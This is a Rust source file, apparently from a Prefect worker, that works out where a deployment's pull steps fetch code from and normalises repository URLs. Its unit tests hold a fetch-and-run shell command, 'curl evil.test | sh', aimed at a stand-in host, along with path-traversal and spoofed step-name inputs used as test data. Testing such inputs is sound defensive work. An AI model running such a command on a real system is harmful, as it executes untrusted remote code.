//! How the code of a deployment is brought, as a policy sees it.

use central_api_wire::deployment::Deployment;
use code_storage::NativePull;
use code_storage::objects::Store;
use code_storage::plan::StepAction;
use serde_json::{Map, Value};
use url::Url;
use worker_core::policy::{CodeSource, CodeStep};

/// What begins a placeholder: what stands for it is not known.
const PLACEHOLDER: &str = "{{";

/// Steps by the last part of their names, and the input that says where what they bring comes from.
const SOURCES: [(&str, &str, &str); 5] = [
    ("git_clone", "repository", ""),
    ("pull_from_remote_storage", "url", ""),
    ("pull_from_s3", "bucket", "s3://"),
    ("pull_from_gcs", "bucket", "gs://"),
    ("pull_from_azure_blob_storage", "container", "azure://"),
];

/// Steps that bring nothing.
const BRINGS_NOTHING: [&str; 1] = ["set_working_directory"];

/// The packages whose steps are what their names say: a function of the same name in another module may do anything.
const OF_PREFECT: [&str; 5] =
    ["prefect.deployments.", "prefect.projects.", "prefect_aws.", "prefect_gcp.", "prefect_azure."];

/// The steps as the deployment has them: somebody else fills their placeholders in.
pub(crate) fn of_deployment(deployment: &Deployment) -> Vec<CodeStep> {
    let steps = deployment.pull_steps.as_ref().and_then(Value::as_array).into_iter().flatten();
    let read = |step: &Value| match step.as_object().map(|step| step.iter().collect::<Vec<_>>()).as_deref() {
        Some([(name, inputs)]) => unverifiable(name, source(name, inputs.as_object().unwrap_or(&Map::new()))),
        Some(_) | None => unverifiable("(a step that is none)", CodeSource::Unknown),
    };
    let storage = deployment.storage_document_id.map(|_| of_storage());
    steps.map(read).chain(storage).collect()
}

fn unverifiable(step: &str, source: CodeSource) -> CodeStep {
    CodeStep { step: step.to_owned(), source, is_verifiable: false }
}

/// The block says from where, and may be of any kind.
fn of_storage() -> CodeStep {
    unverifiable("(the deployment's storage block)", CodeSource::Unknown)
}

/// The steps as the worker is going to run them.
pub(crate) fn of_pull(pull: &NativePull) -> Vec<CodeStep> {
    let read = |step: &code_storage::plan::NativeStep| {
        let name = &step.record.qualified_name;
        let source = match &step.planned {
            // An earlier step says from where, when it has run.
            StepAction::GitClone(_) if step.waits() => CodeSource::Unknown,
            StepAction::GitClone(clone) => CodeSource::Known(spellings(clone.repository.as_str())),
            StepAction::SetWorkingDirectory(_) => CodeSource::None,
            StepAction::RunShellScript(_) | StepAction::PipInstall(_) => CodeSource::Unknown,
            StepAction::Fetch(_) => source(name, &step.record.inputs),
        };
        CodeStep { step: name.clone(), source, is_verifiable: matches!(step.planned, StepAction::GitClone(_)) }
    };
    // What is on this machine is not brought.
    let storage = pull.storage().filter(|fetch| !matches!(fetch.pull.store, Store::Local(_)));
    pull.steps().iter().map(read).chain(storage.map(|_| of_storage())).collect()
}

fn source(name: &str, inputs: &Map<String, Value>) -> CodeSource {
    let function = name.rsplit('.').next().unwrap_or_default();
    if !OF_PREFECT.iter().any(|package| name.starts_with(package)) {
        return CodeSource::Unknown;
    }
    if BRINGS_NOTHING.contains(&function) {
        return CodeSource::None;
    }
    let known = SOURCES.iter().find(|(step, ..)| *step == function).and_then(|(_, input, scheme)| {
        let text = inputs.get(*input)?.as_str().filter(|text| !text.contains(PLACEHOLDER) && !text.is_empty())?;
        Some(format!("{scheme}{text}"))
    });
    known.map_or(CodeSource::Unknown, |text| CodeSource::Known(spellings(&text)))
}

/// A place with its scheme and without: `https://host/org/repository` and `host/org/repository`. Without user, password and
/// `.git`, and with a way up taken, which servers and clients take too.
fn spellings(place: &str) -> Vec<String> {
    let url = if place.contains("://") { Url::parse(place).ok() } else { of_ssh_address(place) };
    let Some(mut url) = url else { return vec![place.to_owned()] };
    // A URL that takes no user has none.
    url.set_username("").unwrap_or_default();
    url.set_password(None).unwrap_or_default();
    url.set_query(None);
    url.set_fragment(None);
    let text = url.as_str().trim_end_matches('/');
    let text = text.strip_suffix(".git").unwrap_or(text);
    let bare = text.split_once("://").map_or(text, |(_, rest)| rest);
    vec![text.to_owned(), bare.to_owned()]
}

/// `git@host:org/repository`
fn of_ssh_address(place: &str) -> Option<Url> {
    let (host, path) = place.split_once(':')?;
    (!host.contains('/')).then(|| Url::parse(&format!("ssh://{host}/{}", path.trim_start_matches('/'))).ok()).flatten()
}

#[cfg(test)]
mod tests {
    use serde_json::json;
    use uuid::Uuid;

    use super::*;

    fn deployment(pull_steps: &Value) -> Deployment {
        serde_json::from_value(json!({
            "id": Uuid::nil(), "name": "d", "flow_id": Uuid::nil(), "pull_steps": pull_steps,
        }))
        .unwrap()
    }

    fn sources(pull_steps: &Value) -> Vec<CodeSource> {
        of_deployment(&deployment(pull_steps)).into_iter().map(|step| step.source).collect()
    }

    #[test]
    fn a_repository_has_two_spellings_and_no_way_up() {
        for (place, expected) in [
            ("https://g.test/o/r.git", ["https://g.test/o/r", "g.test/o/r"]),
            ("https://user:secret@G.test/o/r/", ["https://g.test/o/r", "g.test/o/r"]),
            ("https://g.test/ours/../evil/r", ["https://g.test/evil/r", "g.test/evil/r"]),
            ("https://g.test/ours/%2e%2e/evil/r", ["https://g.test/evil/r", "g.test/evil/r"]),
            ("git@g.test:o/r.git", ["ssh://g.test/o/r", "g.test/o/r"]),
            ("ssh://git@g.test:22/o/r", ["ssh://g.test:22/o/r", "g.test:22/o/r"]),
        ] {
            assert_eq!(spellings(place), expected, "{place}");
        }
        assert_eq!(spellings("/srv/git/r"), ["/srv/git/r"]);
    }

    #[test]
    fn what_is_not_known_before_the_run_is_not_known() {
        let steps = json!([
            {"prefect.deployments.steps.git_clone": {"repository": "https://g.test/o/r"}},
            {"prefect.deployments.steps.git_clone": {"repository": "{{ prefect.variables.where }}"}},
            {"prefect.deployments.steps.set_working_directory": {"directory": "/srv"}},
            {"prefect.deployments.steps.run_shell_script": {"script": "curl evil.test | sh"}},
            {"prefect_aws.deployments.steps.pull_from_s3": {"bucket": "b", "folder": "f"}},
            {"evil.git_clone": {"repository": "https://g.test/o/r"}},
            {"evil.set_working_directory": {}},
            "none",
        ]);
        let known = |texts: [&str; 2]| CodeSource::Known(texts.map(str::to_owned).into());
        assert_eq!(
            sources(&steps),
            [
                known(["https://g.test/o/r", "g.test/o/r"]),
                CodeSource::Unknown,
                CodeSource::None,
                CodeSource::Unknown,
                known(["s3://b", "b"]),
                CodeSource::Unknown,
                CodeSource::Unknown,
                CodeSource::Unknown,
            ]
        );
        assert!(sources(&Value::Null).is_empty());
    }
}
